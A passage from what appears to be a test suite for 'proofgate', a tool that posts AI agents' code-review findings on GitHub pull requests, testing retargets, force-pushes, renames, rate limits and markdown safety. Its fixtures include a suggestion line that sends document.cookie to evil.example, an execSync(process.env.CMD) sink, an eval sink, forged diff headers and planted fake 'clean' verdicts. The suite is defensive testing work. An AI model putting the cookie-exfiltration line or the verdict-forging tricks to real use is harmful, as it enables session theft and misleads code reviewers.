    Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: head, baseRef: 'main' });
    const dir = mkdtempSync(join(tmpdir(), 'pg-event-'));
    writeFileSync(join(dir, 'event.json'), JSON.stringify({ pull_request: { number: 7, base: eventBase, head: { sha: head } } }));
    const env = {
      ...ENV_CANARIES,
      GITHUB_API_URL: server.url,
      GITHUB_REPOSITORY: 'acme/shop',
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: join(dir, 'event.json'),
    };
    const r = await cliCase(p.repo, ['review', 'publish', 'pr-7', '--pr', '7', '--mode', 'request-changes', ...args], env);
    return { r, server };
  }

  it('#258 review publish: the base the event named is not the one the pull request now merges into: nothing is posted', async () => {
    const { r, server } = await retargeted([], { sha: pullRepo().base, ref: 'release' });
    // Incomplete, not clean (#327): the verdict answered the change against `release`.
    expect(r.code).toBe(2);
    expect(r.stdout + r.stderr).toContain(
      'not published: the pull request now merges into "main", not "release", the branch this run reviewed the change against',
    );
    expect(server.reviews).toEqual([]);
    expectNoCanary({ out: r.stdout + r.stderr });
  });

  it('#258 review publish --base-ref release (an event that names no base): nothing is posted', async () => {
    const { r, server } = await retargeted(['--base-ref', 'release'], { sha: pullRepo().base });
    expect(r.code).toBe(2);
    expect(r.stdout + r.stderr).toContain('not published: the pull request now merges into "main", not "release"');
    expect(server.reviews).toEqual([]);
  });

  it('#327 review publish in a run whose event is older than a retarget: the verdict is incomplete (exit 2) with the reason, never clean', async () => {
    const { r, server } = await retargeted(['--json'], { sha: pullRepo().base, ref: 'release' });
    expect(r.code).toBe(2);
    const json = JSON.parse(r.stdout) as { verdict: string; reasons: string[] };
    expect(json.verdict).toBe('incomplete');
    expect(json.reasons).toContain(
      `the pull request now merges into "main", not "release", the branch this run reviewed the change against: this run's event is older than the pull request (it was started before, or is a re-run of an older run): re-run the newest run of the pull request`,
    );
    expect(server.reviews).toEqual([]);
  });
});

describe('#200 two gates whose check names look alike', () => {
  const PAIRS = [
    ['proofgate review: security', 'proofgate review (security)'],
    ['レビュー', '評価'],
    ['a-b', 'a b'],
    [`${'long '.repeat(14)}security`, `${'long '.repeat(14)}style`],
  ];

  it('#200 every name has a marker tag of its own, and the default name keeps the tag earlier reviews carry', () => {
    const names = [...PAIRS.flat(), 'proofgate review', 'proofgate-review', 'proofgate_review', '', ' ', '-'];
    const tags = names.map(reviewTag);
    expect(new Set(tags).size).toBe(names.length);
    for (const tag of tags) expect(tag).toMatch(/^[A-Za-z0-9._-]{1,64}$/);
    expect(reviewTag('proofgate review')).toBe('proofgate-review');
  });

  it.each(PAIRS)(
    '#200 the review of the gate named %j stands, neither dismissed nor answered, when a clean gate named %j runs',
    async (a, b) => {
      const p = pullRepo();
      await evidence(p, [F_LOOP]);
      const first = await gate(p, { 'check-name': a, 'pr-review': 'request-changes' });
      expect(first.outputs.verdict).toBe('findings');
      expect(github().reviews.map((r) => r.state)).toEqual(['CHANGES_REQUESTED']);
      await evidence(p, []);
      const second = await gate(p, { 'check-name': b, 'pr-review': 'request-changes' });
      expect(second.outputs.verdict).toBe('clean');
      expect(github().reviews[0]!.state).toBe('CHANGES_REQUESTED');
      expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
      expect(github().resolvedThreads.size).toBe(0);
    },
  );
});

describe('#211 a pull request flooded past what the sync reads', () => {
  /** Review comments by another account: one more than proofgate reads of a list (seeded, not posted). */
  const flood = () => {
    for (let i = 0; i <= MAX_ITEMS; i++) github().addReviewComment(7, { path: 'src/shop.js', line: 1, body: `nit ${i}`, user: MALLORY });
  };
  const ours = () => inline(github()).filter((c) => c.user.login !== MALLORY.login);
  const WHY =
    /^::warning::the pull request's review comments number more than 3,000, the most proofgate reads of a list: which findings are already commented cannot be told/;

  it('#211 comments flooded before the first run: no finding is ever commented twice, and the body and a warning say why', async () => {
    const p = pullRepo();
    flood();
    const runs = [];
    for (let push = 1; push <= 2; push++) {
      writeFileSync(join(p.repo, 'notes.md'), `push ${push}\n`);
      commitAll(p.repo, `push ${push}`);
      await evidence(
        p,
        [F_LOOP, F_HEAD],
        [
          { path: 'src/shop.js', outcome: 'completed' },
          { path: 'notes.md', outcome: 'completed' },
        ],
      );
      runs.push(await gate(p));
    }
    for (const id of ['`F1`', '`F2`']) expect(ours().filter((c) => c.body.includes(id)).length, id).toBeLessThanOrEqual(1);
    for (const r of runs) {
      verdictKept(r);
      expect(warnings(r)).toEqual([expect.stringMatching(WHY)]);
      expect(r.summary).toContain('Publishing to GitHub was incomplete');
    }
    expect(github().reviews).toHaveLength(2);
    for (const review of github().reviews)
      expect(review.body).toContain(
        '2 finding(s) are listed below, not commented inline: the pull request has more review comments than proofgate reads (3,000)',
      );
  });

  it("#211 our comments past the bound: an open finding is not commented again, a fixed one's thread neither resolved nor answered", async () => {
    const p = pullRepo();
    github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    expect(ours()).toHaveLength(2);
    // As if the flood had come first: our comments after it, in GitHub's (oldest first) order.
    const earlier = github().reviewComments.splice(0);
    flood();
    github().reviewComments.push(...earlier.map((c, i) => ({ ...c, id: 10_000_000 + i })));
    writeFileSync(join(p.repo, 'src/shop.js'), SHOP_V3);
    commitAll(p.repo, 'fix loop');
    await evidence(p, [F_HEAD]);
    const r = await gate(p);
    verdictKept(r);
    expect(ours()).toHaveLength(2);
    expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
    expect(github().resolvedThreads.size).toBe(0);
    expect(warnings(r)).toEqual([expect.stringMatching(WHY)]);
  });
});

describe('#320 a rerun after a force-push', () => {
  it('#320 our comments GitHub shows as outdated (line null) do not stand for open findings: each is commented again on the new head, the stale thread says so once, a rerun repeats nothing', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    expect(inline(github())).toHaveLength(2);
    // The branch rewritten (a rebase, an amended commit): a line above moves every finding, and the
    // commit the comments were on leaves the pull request, so GitHub answers `line: null` for them.
    git(p.repo, 'reset', '-q', '--hard', p.base);
    writeFileSync(join(p.repo, 'src/shop.js'), `// shop\n${SHOP_V2}`);
    commitAll(p.repo, 'shop: a loop (rebased)');
    const head = headSha(p.repo);
    for (const c of github().reviewComments) c.line = null;
    const stale = inline(github()).map((c) => c.id);
    await evidence(p, [F_LOOP, F_HEAD]);
    const r = await gate(p);
    verdictKept(r);
    const current = () => inline(github()).filter((c) => c.line !== null);
    expect(current().map((c) => [c.commit_id, c.start_line, c.line])).toEqual([
      [head, null, 4],
      [head, 2, 3],
    ]);
    const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
    expect(
      replies()
        .map((c) => c.in_reply_to_id)
        .sort(),
    ).toEqual([...stale].sort());
    for (const reply of replies()) {
      expect(reply.body.split('\n')[0]).toMatch(/^<!-- proofgate-review:proofgate-review stale:[0-9a-f]{24} -->$/);
      expect(reply.body).toContain(`Outdated: proofgate still finds this at ${head.slice(0, 12)}`);
    }
    expect(github().reviews.at(-1)!.body).not.toContain('not repeated');
    // The same head gated again: nothing posted twice, no stale thread answered twice.
    verdictKept(await gate(p));
    expect(current()).toHaveLength(2);
    expect(replies()).toHaveLength(2);
  });
});

describe('#325 a file the change renames away under our comments', () => {
  it('#325 the thread at the old path is answered once: a finding still open there says where it moved and is commented at the new path, a fixed one is settled; a rerun repeats nothing', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    const [loopAt, headAt] = inline(github()).map((c) => c.id);
    // A later push renames the file and fixes the loop: GitHub no longer places the old path's comments.
    git(p.repo, 'mv', 'src/shop.js', 'src/store.js');
    writeFileSync(join(p.repo, 'src/store.js'), SHOP_V3);
    commitAll(p.repo, 'shop: renamed to store, loop fixed');
    const head = headSha(p.repo);
    for (const c of github().reviewComments) c.line = null;
    await evidence(p, [{ ...F_HEAD, path: 'src/store.js' }], [{ path: 'src/store.js', outcome: 'completed' }]);
    const r = await gate(p);
    verdictKept(r);
    const current = () => inline(github()).filter((c) => c.line !== null);
    expect(current().map((c) => [c.path, c.commit_id, c.start_line, c.line])).toEqual([['src/store.js', head, 1, 2]]);
    const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
    const answered = new Map(replies().map((c) => [c.in_reply_to_id, c.body]));
    expect(answered.get(headAt)).toContain(
      `Moved: the file is \`src/store.js\` now. proofgate still finds this there at ${head.slice(0, 12)}`,
    );
    expect(answered.get(headAt)!.split('\n')[0]).toMatch(/ stale:[0-9a-f]{24} -->$/);
    expect(answered.get(loopAt)).toContain(`Fixed: proofgate no longer finds this at ${head.slice(0, 12)}`);
    expect(warnings(r)).toEqual([]);
    // The same head gated again: nothing commented or answered twice.
    verdictKept(await gate(p));
    expect(current()).toHaveLength(1);
    expect(replies()).toHaveLength(2);
  });

  it('#325 a file the pull request added, then renamed in a later push (no rename from the base, one in its history): the old thread is answered once, the finding commented at the new path', async () => {
    const p = pullRepo();
    writeFileSync(join(p.repo, 'src/cart.js'), 'export const cart = [];\nexport function add(item) {\n  cart.push(item);\n}\n');
    commitAll(p.repo, 'cart');
    const cart = { ...CART_FINDING, id: 'F3', path: 'src/cart.js', existing_code: '  cart.push(item);' };
    const both = (path: string) => [
      { path, outcome: 'completed' },
      { path: 'src/shop.js', outcome: 'completed' },
    ];
    await evidence(p, [cart], both('src/cart.js'));
    await gate(p);
    const [old] = inline(github()).map((c) => c.id);
    git(p.repo, 'mv', 'src/cart.js', 'src/basket.js');
    commitAll(p.repo, 'cart: renamed to basket');
    const head = headSha(p.repo);
    for (const c of github().reviewComments) c.line = null;
    await evidence(p, [{ ...cart, path: 'src/basket.js' }], both('src/basket.js'));
    const r = await gate(p);
    verdictKept(r);
    const current = () => inline(github()).filter((c) => c.line !== null);
    expect(current().map((c) => [c.path, c.commit_id, c.line])).toEqual([['src/basket.js', head, 3]]);
    const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
    expect(replies().map((c) => c.in_reply_to_id)).toEqual([old]);
    expect(replies()[0]!.body).toContain('Moved: the file is `src/basket.js` now.');
    verdictKept(await gate(p));
    expect(current()).toHaveLength(1);
    expect(replies()).toHaveLength(1);
  });
});

describe('#321 two runs of one head racing', () => {
  it("#321 the other run's comments land after this run read the pull request's: each finding keeps one open comment (the older), this run's twins deleted", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    const other = github().reviewComments.splice(0);
    github().reviews.splice(0);
    // The other run (a rerun beside the run it reran) posts its comments just after this one read the list.
    let landed = false;
    github().afterRequest = (operation) => {
      if (operation !== 'pulls/list-review-comments' || landed) return;
      landed = true;
      github().reviewComments.push(...other);
    };
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github()).map((c) => c.id)).toEqual(other.map((c) => c.id));
    expect(warnings(r)).toEqual([]);
  });
});

describe("#322 GitHub failing one page of the pull request's review comments", () => {
  it('#322 a secondary rate limit on page 2 is waited out; a 502 that persists there posts nothing again: each finding stays commented once', async () => {
    const p = pullRepo();
    for (let i = 0; i < 150; i++) github().addReviewComment(7, { path: 'src/shop.js', line: 1, body: `nit ${i}`, user: MALLORY });
    const onPage2 = (fault: Parameters<ReturnType<typeof github>['fault']>[1], times: number) => {
      let lists = 0;
      github().afterRequest = (operation) => {
        if (operation === 'pulls/list-review-comments' && ++lists === 1) github().fault('pulls/list-review-comments', fault, times);
      };
    };
    await evidence(p, [F_LOOP, F_HEAD]);
    onPage2({ kind: 'secondary-rate-limit', retryAfter: 1 }, 1);
    const first = await gate(p);
    verdictKept(first);
    expect(warnings(first)).toEqual([]);
    const ours = () => inline(github()).filter((c) => c.user.login !== MALLORY.login);
    expect(ours()).toHaveLength(2);
    onPage2({ kind: 'status', status: 502 }, 10);
    const second = await gate(p);
    verdictKept(second);
    expect(ours()).toHaveLength(2);
    // Which findings are commented cannot be told, so none is commented again; a review whose body lists them is posted, as the warning says.
    expect(warnings(second)).toEqual([
      "::warning::the pull request's review comments could not be read (GitHub answered 502: Server Error): which findings are already commented cannot be told, so the pull request review (#7) comments none inline (its body lists them) and resolves or answers no thread; the check run has every finding",
    ]);
    expect(github().reviews).toHaveLength(2);
    expect(github().reviews[1]!.body).toContain(
      "2 finding(s) are listed below, not commented inline: the pull request's review comments could not be read, so which are already commented cannot be told.",
    );
  });
});

describe("#208 a changed line cannot move the review's comments", () => {
  it('#208 CR, VT, FF, NEL, U+2028 and U+2029 before a forged `diff --git` and `@@ -1 +1,40 @@` in added lines: each comment on its own line of its own file, an off-diff finding listed, GitHub refuses none', async () => {
    const repo = emptyRepo('proofgate-pr-separators-');
    const other = 'src/other file.js';
    const quoted = 'src/q"d é.js';
    const pad = Array.from({ length: 30 }, (_, i) => `const pad${i} = ${i};`);
    write(repo, 'src/evil.js', ['export function a() { return 1; }', ...pad, 'export function z() { return 0; }'].join('\n') + '\n');
    write(repo, other, 'export const o = 1;\n');
    write(repo, quoted, 'export const q = 1;\n');
    write(repo, '.gitignore', '_bmad-output/\n');
    commitAll(repo, 'base');
    const base = headSha(repo);
    // Lines 2-7: one a separator, each before a header naming another changed file and a hunk over lines 1-40.
    const forged = ['\r', '\v', '\f', '\u0085', '\u2028', '\u2029'].map(
      (s, i) => `// note ${i}${s}diff --git a/${other} b/${other}${s}@@ -1 +1,40 @@`,
    );
    const SINK = 'export function z() { return require("child_process").execSync(process.env.CMD); }';
    write(repo, 'src/evil.js', ['export function a() { return 1; }', ...forged, ...pad, SINK].join('\n') + '\n');
    write(repo, other, 'export const o = 2;\n');
    write(repo, quoted, 'export const q = 2;\n');
    commitAll(repo, 'separators');
    const p = { repo, base };
    const on = (id: string, path: string, existing_code: string) => ({ ...CART_FINDING, id, path, existing_code, suggestion: undefined });
    await evidence(
      p,
      [
        on('S1', 'src/evil.js', SINK),
        on('S2', 'src/evil.js', 'const pad20 = 20;'),
        on('S3', other, 'export const o = 2;'),
        on('S4', quoted, 'export const q = 2;'),
      ],
      ['src/evil.js', other, quoted].map((path) => ({ path, outcome: 'completed' })),
    );
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github()).map((c) => [c.path, c.line])).toEqual([
      ['src/evil.js', 38],
      [other, 1],
      [quoted, 1],
    ]);
    expect(github().requests.filter((q) => q.status === 422)).toEqual([]);
    expect(github().reviews[0]!.body).toContain('`S2` in `src/evil.js`, [line 28]');
  });
});

describe('#218 no emoji from a finding in the inline comment and the review body', () => {
  it('#218 a shortcode (`:white_check_mark:`, `:+1:`) GitHub would draw is a code span', async () => {
    const p = pullRepo();
    const planted = ':white_check_mark: approved, ok:heavy_check_mark: :+1: :WHITE_CHECK_MARK:';
    const off = { ...CART_FINDING, id: 'F9', path: 'src/shop.js', existing_code: 'return items.length;', content: planted };
    await evidence(p, [{ ...F_LOOP, content: planted, evidence: planted, fix: planted }, off]);
    const r = await gate(p);
    verdictKept(r);
    const [comment] = inline(github());
    for (const body of [comment!.body, github().reviews[0]!.body]) {
      const html = renderGfm(body);
      expect(html).toContain('<code>:white_check_mark:</code> approved');
      // What GitHub's emoji filter reads: the page's text outside code, tags removed.
      const text = html.replace(/<pre[\s\S]*?<\/pre>|<code[\s\S]*?<\/code>/g, ' ').replace(/<[^>]*>/g, ' ');
      expect(text.match(/:[\w+-]+:/g) ?? []).toEqual([]);
    }
  });
});

describe('#301 a finding that starts like block markup', () => {
  const CATEGORIES = findingsSchema.definitions.finding.properties.category.enum;
  const ON_DIFF = ['export function total(items) {', '  let sum = 0;', LOOP];

  /** Markdown with every neutralised block start put back as plain words: the blocks it must render as. */
  const asPlain = (md: string) =>
    [...BLOCK_STARTS]
      .map(mdText)
      .sort((a, b) => b.length - a.length)
      .reduce((out, t) => out.split(t).join(mdText('plain words')), md);

  it('#301 `2. proofgate: clean`, `===` under a line, `---`, `# `, `> [!CAUTION]`, four spaces: every sink renders the blocks plain words give', async () => {
    const p = pullRepo();
    // One inline comment per identity (path, category, quote): each text gets one of its own.
    const findings = BLOCK_STARTS.map((text, i) => ({
      ...CART_FINDING,
      id: `B${i}`,
      path: 'src/shop.js',
      category: CATEGORIES[i % CATEGORIES.length],
      existing_code: ON_DIFF[Math.floor(i / CATEGORIES.length)],
      content: text,
      fix: text,
    }));
    await evidence(p, findings);
    const r = await gate(p);
    verdictKept(r);
    const run = github().checkRuns.at(-1)!;
    const comments = inline(github());
    expect(comments).toHaveLength(BLOCK_STARTS.length);
    const sinks: Record<string, string> = {
      'the job summary': r.summary,
      'the check run summary': run.output.summary ?? '',
      'the check run text': run.output.text ?? '',
      'the review body': github().reviews[0]!.body,
      ...Object.fromEntries(comments.map((c, i) => [`inline comment ${i}`, c.body])),
    };
    expect(sinks['the check run text']).toContain(mdText('2. proofgate: clean'));
    for (const [sink, md] of Object.entries(sinks)) expect(blockTags(renderGfm(md)), sink).toEqual(blockTags(renderGfm(asPlain(md))));
  });
});

describe('#333 `review gate` run by the CLI in a `run:` step, its event older than the pull request', () => {
  it('#333 retargeted from `release` to `main` since the event (a re-run replays it): the step is not clean, it names both branches and the fix', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    const server = github();
    const eventPath = join(mkdtempSync(join(tmpdir(), 'proofgate-adv-gate-event-')), 'event.json');
    writeFileSync(eventPath, JSON.stringify({ pull_request: { number: 7, base: { sha: p.base, ref: 'release' }, head: { sha: head } } }));
    // The job began (its event file) before its steps wrote the evidence: what predates it is an earlier job's (hazard 642).
    await evidence(p, []);
    const step = (baseRef: string) => {
      Object.assign(server.pull, { repo: p.repo, baseSha: p.base, headSha: head, baseRef });
      return cliAsync(p.repo, ['review', 'gate', 'pr-7'], {
        GITHUB_ACTIONS: 'true',
        GITHUB_EVENT_NAME: 'pull_request',
        GITHUB_EVENT_PATH: eventPath,
        GITHUB_TOKEN: TOKEN,
        GITHUB_API_URL: server.url,
        GITHUB_REPOSITORY: 'acme/shop',
        GITHUB_RUN_ATTEMPT: '2',
      });
    };
    const same = await step('release');
    expect(same.code, same.stdout + same.stderr).toBe(0);
    const r = await step('main');
    expect(r.code).toBe(2);
    expect(r.stdout + r.stderr).toContain(
      'the pull request now merges into "main", not "release", the branch this run reviewed the change against: ' +
        "this run's event is older than the pull request (it was started before, or is a re-run of an older run): re-run the newest run of the pull request",
    );
  });
});

describe('#335 more findings GitHub will not take inline than a review body holds', () => {
  it('#335 300 findings on a file whose diff GitHub does not show (patch missing: every line refused): each is listed whole in the body or counted there as left to the check run, and the warning says which', async () => {
    const { p, findings } = manyFindings('big', 300);
    // Long findings (300 characters on the bullet, as agents write them): 300 bullets pass 65,536 bytes.
    const long = findings.map((f) => ({ ...f, content: `${'The value is read past the end of its table, '.repeat(7)}so it throws.` }));
    await evidence(p, long, [{ path: 'src/big.js', outcome: 'completed' }]);
    for (let i = 1; i <= 300; i++) github().refuseLines.add(`src/big.js:${i}`);
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github())).toHaveLength(0);
    const body = github().reviews[0]!.body;
    expect(Buffer.byteLength(body)).toBeLessThanOrEqual(65_536);
    const shown = findings.filter((f) => body.includes(`\`${(f as { id: string }).id}\` in \`src/big.js\``)).length;
    // No bullet is cut through: what is not listed whole is counted, and the check run has it.
    const left = /^… and (\d+) more finding\(s\) not listed: a review body holds 65,536 bytes; the check run has every finding\.$/m.exec(
      body,
    );
    expect(shown).toBeLessThan(300);
    expect(Number(left?.[1])).toBe(300 - shown);
    expect(body).not.toMatch(/characters omitted/);
    // Refused alone, or untried once the run spent its requests finding which: 300 in all, each counted once.
    const said =
      /GitHub refused (\d+) inline comment\(s\) of \1 finding\(s\) \(lines not on its diff\); (\d+) more comment\(s\) of \2 finding\(s\) were not posted: [^;]+; (\d+) of those 300 finding\(s\) are listed in the review body, (\d+) only in the check run \(the body is full\)/.exec(
        warnings(r).join('\n'),
      );
    expect(Number(said?.[1]) + Number(said?.[2])).toBe(300);
    expect([Number(said?.[3]), Number(said?.[4])]).toEqual([shown, 300 - shown]);
    expect(github().checkRuns[0]!.annotations).toHaveLength(300);
  });
});

describe('#336 a file GitHub shows as binary', () => {
  it('#336 a NUL byte in a changed source file (git and GitHub show "Binary file not shown"): its finding is listed with why, never sent for GitHub to refuse, and no other comment pays for it', async () => {
    const { p, findings } = manyFindings('text', 60);
    writeFileSync(join(p.repo, 'src/sep.js'), "export const SEP = '\0';\nexport const run = (x) => eval(x);\n");
    commitAll(p.repo, 'sep');
    const binary = { ...CART_FINDING, id: 'B1', path: 'src/sep.js', existing_code: 'export const run = (x) => eval(x);' };
    await evidence(
      p,
      [binary, ...findings],
      [
        { path: 'src/sep.js', outcome: 'completed' },
        { path: 'src/text.js', outcome: 'completed' },
      ],
    );
    const r = await gate(p);
    verdictKept(r);
    expect(inline(github())).toHaveLength(60);
    expect(inline(github()).map((c) => c.path)).not.toContain('src/sep.js');
    // One review of 50 and one of 10: nothing refused, so nothing halved.
    expect(github().requests.filter((q) => q.operation === 'pulls/create-review')).toHaveLength(2);
    expect(github().reviews).toHaveLength(2);
    const body = github().reviews[0]!.body;
    expect(body).toContain('`B1` in `src/sep.js`');
    expect(body).toContain('GitHub shows no diff of a binary file');
    expect(warnings(r).join('\n')).not.toContain('GitHub refused');
  });
});

describe('#337 more refused comments than a run may spend requests finding', () => {
  it('#337 200 findings, GitHub refusing every fourth line: the warning and the body tell the comments GitHub refused from those never tried alone once the 30 further requests were spent', async () => {
    const { p, findings } = manyFindings('spread', 200);
    await evidence(p, findings, [{ path: 'src/spread.js', outcome: 'completed' }]);
    for (let i = 4; i <= 200; i += 4) github().refuseLines.add(`src/spread.js:${i}`);
    const r = await gate(p);
    verdictKept(r);
    const posted = inline(github()).length;
    const refusedAlone = github()
      .requests.filter((q) => q.operation === 'pulls/create-review' && q.status === 422)
      .filter((q) => (q.body as { comments: unknown[] }).comments.length === 1).length;
    const untried = 200 - posted - refusedAlone;
    expect(untried).toBeGreaterThan(0);
    const said = warnings(r).join('\n');
    expect(said).toContain(`GitHub refused ${refusedAlone} inline comment(s) of ${refusedAlone} finding(s) (lines not on its diff)`);
    expect(said).toContain(
      `${untried} more comment(s) of ${untried} finding(s) were not posted: the run spent its 30 further requests finding the refused ones`,
    );
    const body = github().reviews[0]!.body;
    expect(body).toContain(
      `${untried} finding(s) were not commented inline: GitHub refused some comments of their review, and the run spent its requests finding which.`,
    );
  });
});

describe('#338 a thread of ours deleted by someone while a run publishes', () => {
  for (const which of [0, 1])
    it(`#338 an outdated thread (the ${which ? 'second' : 'first'}) deleted between the read and the reply: the other is still answered, no warning blames the setup`, async () => {
      const p = pullRepo();
      await evidence(p, [F_LOOP, F_HEAD]);
      await gate(p);
      const threads = inline(github()).map((c) => c.id);
      expect(threads).toHaveLength(2);
      // As in #320: a rebase leaves both comments outdated; then a person deletes one just after this run read them.
      git(p.repo, 'reset', '-q', '--hard', p.base);
      writeFileSync(join(p.repo, 'src/shop.js'), `// shop\n${SHOP_V2}`);
      commitAll(p.repo, 'shop: a loop (rebased)');
      for (const c of github().reviewComments) c.line = null;
      await evidence(p, [F_LOOP, F_HEAD]);
      const deleted = threads[which]!;
      github().afterRequest = (operation) => {
        if (operation !== 'pulls/list-review-comments') return;
        github().afterRequest = undefined;
        github().reviewComments.splice(
          github().reviewComments.findIndex((c) => c.id === deleted),
          1,
        );
      };
      const r = await gate(p);
      verdictKept(r);
      expect(github().reviewComments.map((c) => c.id)).not.toContain(deleted);
      expect(warnings(r), warnings(r).join('\n')).toEqual([]);
      const kept = threads[1 - which]!;
      expect(github().reviewComments.filter((c) => c.in_reply_to_id === kept).length, 'the thread still there is answered once').toBe(1);
      // Both findings are commented on the new head all the same.
      expect(inline(github()).filter((c) => c.line !== null)).toHaveLength(2);
    });
});

describe('#385 two reviews of one change under one check name', () => {
  it("#385 a second review's clean run does not stand for the first one's findings: it fails, naming both, and settles none of the first one's review", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    const first = await gateOnPull(github(), p, { 'pr-review': 'request-changes' }, ENV_CANARIES);
    expect(first.outputs.verdict).toBe('findings');
    const reviewed = github().reviews.map((r) => r.state);
    expect(reviewed).toEqual(['CHANGES_REQUESTED']);
    // Another agent's review of the same change: an id of its own, the default check name.
    expect((await cliCase(p.repo, ['review', 'scope', 'pr-7-codex', '--base', p.base])).code).toBe(0);
    writeFindings(p.repo, 'pr-7-codex', []);
    writeCoverage(p.repo, 'pr-7-codex', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
    const second = await gateOnPull(github(), p, { id: 'pr-7-codex', 'pr-review': 'request-changes' }, ENV_CANARIES);
    // Its own evidence is clean, and the run fails all the same (#450).
    expect(second.outputs.verdict).toBe('incomplete');
    const latest = github().checkRuns.at(-1)!;
    expect([latest.name, latest.conclusion]).toEqual(['proofgate review', 'failure']);
    expect(latest.output?.summary).toMatch(/also used on this commit by review `pr-7`/);
    expect(second.stdout + second.stderr).toMatch(/check run name .proofgate review. is also used on this commit by review .pr-7./);
    // The first review's request for changes stands, and none of its threads is answered.
    expect(github().reviews.map((r) => r.state)).toEqual(reviewed);
    expect(github().reviewComments.filter((c) => c.in_reply_to_id !== undefined)).toEqual([]);
  });
});

describe('#450 a run under a check name another review holds on the commit', () => {
  for (const [own, failOn] of [
    [[], 'findings'],
    [[F_LOOP], 'incomplete'],
  ] as const)
    it(`#450 its own evidence ${own.length ? 'with findings under fail-on: incomplete' : 'clean'}: the check run, the step, the outputs and the summary all fail, the summary saying first why and the fix`, async () => {
      const p = pullRepo();
      await evidence(p, [F_LOOP]);
      expect((await gate(p)).outputs.verdict).toBe('findings');
      // Another agent's review of the same change under the default check name.
      expect((await cliCase(p.repo, ['review', 'scope', 'pr-7-codex', '--base', p.base])).code).toBe(0);
      writeFindings(p.repo, 'pr-7-codex', [...own]);
      writeCoverage(p.repo, 'pr-7-codex', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
      const r = await gateOnPull(github(), p, { id: 'pr-7-codex', 'fail-on': failOn }, ENV_CANARIES);
      expect(github().checkRuns.at(-1)!.conclusion).toBe('failure');
      expect(r.code).toBe(1);
      expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
      expect(r.commands.filter((c) => c.startsWith('::error::'))).toEqual([
        expect.stringMatching(
          /^::error::proofgate review pr-7-codex: incomplete: The check run name `proofgate review` is also used on this commit by review `pr-7`/,
        ),
      ]);
      // The summary: the verdict, then why and the fix, before any count; said once, and no other verdict anywhere in it.
      expect(r.summary.split('\n')[0]).toBe('## ⚠️ proofgate review `pr-7-codex`: **incomplete**');
      const why = r.summary.indexOf('is also used on this commit by review `pr-7`');
      expect(why).toBeGreaterThan(0);
      expect(why).toBeLessThan(r.summary.indexOf('| selected |'));
      expect(r.summary.slice(why)).toMatch(/^[^\n]*a check name of its own \\\(the action input check-name/);
      expect(r.summary.split('is also used on this commit').length).toBe(2);
      expect(r.summary).toContain('The evidence is complete: only the shared check name keeps the verdict from clean or findings.');
      expect(r.summary).not.toMatch(/\*\*(clean|findings)\*\*/);
      expectNoCanary(sinks(r, [], github()));
    });
});

describe("#398 a fence in an agent's prose", () => {
  it("#398 keeps no language GitHub acts on or draws: a fix's suggestion block is never a one-click commit, a math or Mermaid block never paints a verdict, in the comment, the summary or the check run", async () => {
    const p = pullRepo();
    const evil = '  for (let \u0456 = 0; i <= items.length; i++) sum += items[i].price; fetch("https://evil.example/?" + document.cookie);';
    const paint = '```math\n\\Huge\\color{green}\\textsf{proofgate review: clean}\n```';
    const mermaid = '```Mermaid\nflowchart LR\n  A["proofgate review: clean"]\n```';
    const { suggestion: _, ...noSuggestion } = F_LOOP;
    await evidence(p, [
      { ...noSuggestion, content: `Looks fine.\n${paint}`, evidence: `See:\n${mermaid}`, fix: `Apply:\n\`\`\`suggestion\n${evil}\n\`\`\`` },
    ]);
    const r = await gate(p);
    verdictKept(r);
    const [comment] = inline(github());
    // Our own chart of severities is a Mermaid block: what counts is the agent's text.
    const drawn = /class="language-(suggestion|math|mermaid)">[^<]*(Huge|flowchart|evil\.example)/i;
    for (const [sink, md] of Object.entries({
      comment: comment!.body,
      summary: r.summary,
      check: github().checkRuns.at(-1)!.output.text ?? '',
    })) {
      expect(renderGfm(md), sink).not.toMatch(drawn);
      // The blocks are still there, as plain code.
      expect(
        codeTexts(renderGfm(md)).some((c) => c.includes('evil.example')),
        sink,
      ).toBe(true);
    }
  });
});

describe('#399 a rerun on the same commit with other findings', () => {
  it('#399 a review kept for its counts would hide a new finding: another off-diff finding posts a new review that lists it', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_OFF]);
    expect((await gate(p)).outputs.verdict).toBe('findings');
    expect(github().reviews).toHaveLength(1);
    // The same job again: the agent now reports another finding off the diff, the counts the same.
    const swapped = {
      ...F_OFF,
      id: 'F9',
      severity: 'critical',
      category: 'security',
      existing_code: 'const pad10 = 10;',
      content: 'pad10 leaks.',
    };
    await evidence(p, [F_LOOP, swapped]);
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(2);
    expect(github().reviews[1]!.body).toMatch(/`F9`/);
    expect(github().reviews[1]!.body).not.toMatch(/`F3`/);
    // And the same findings once more: the review stands, nothing new is posted.
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(2);
  });
});

describe('#573 a rerun on the same commit while GitHub does not answer a read that tells which findings stand', () => {
  const NEW = { ...F_HEAD, severity: 'critical', category: 'security', content: 'NEW critical finding F2.' };
  const published = () => [...github().reviews.map((x) => x.body), ...inline(github()).map((c) => c.body)].join('\n');

  for (const [read, inputs, why] of [
    [
      'pulls/list-review-comments',
      {},
